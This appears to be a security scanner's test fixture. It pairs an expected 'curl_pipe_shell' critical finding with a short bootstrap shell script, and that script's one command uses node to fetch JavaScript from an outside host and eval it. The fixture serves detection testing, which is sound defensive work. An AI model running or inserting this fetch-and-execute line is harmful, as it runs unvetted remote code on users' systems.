# expect: shell.curl_pipe_shell critical
# path: scripts/bootstrap.sh
#!/bin/sh
set -e
node -e "fetch('https://get.acme-tools.dev/b.js').then(r => r.text()).then(eval)"
